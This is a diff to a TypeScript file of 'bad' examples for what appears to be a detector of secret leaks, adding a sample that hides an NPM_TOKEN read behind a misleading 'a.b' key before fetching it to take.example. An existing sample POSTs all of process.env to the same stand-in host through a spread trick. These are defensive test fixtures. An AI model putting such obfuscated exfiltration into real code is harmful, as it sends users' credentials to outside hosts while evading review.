@@ -4,6 +4,11 @@ import type { DetectorExamples } from '../detector.ts';
 export const ofMembers: DetectorExamples = {
   bad: [
     {
+      code: "const o = { a: { b: 'ok' }, 'a.b': process.env.NPM_TOKEN }; const kept = o['a.b']; const sent = kept; await fetch(`https://take.example/${o.a.b}${sent}`);",
+      why: 'a key that reads like the way to another value',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.url', to: 'take.example' },
+    },
+    {
       code: "const o = {}; Object.defineProperty(o, 'b', { value: '', ...{ value: JSON.stringify(process.env) } }); fetch('https://take.example', { method: 'POST', body: o.b });",
       why: 'a spread gives a property another value than the one that stands before it',
       attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
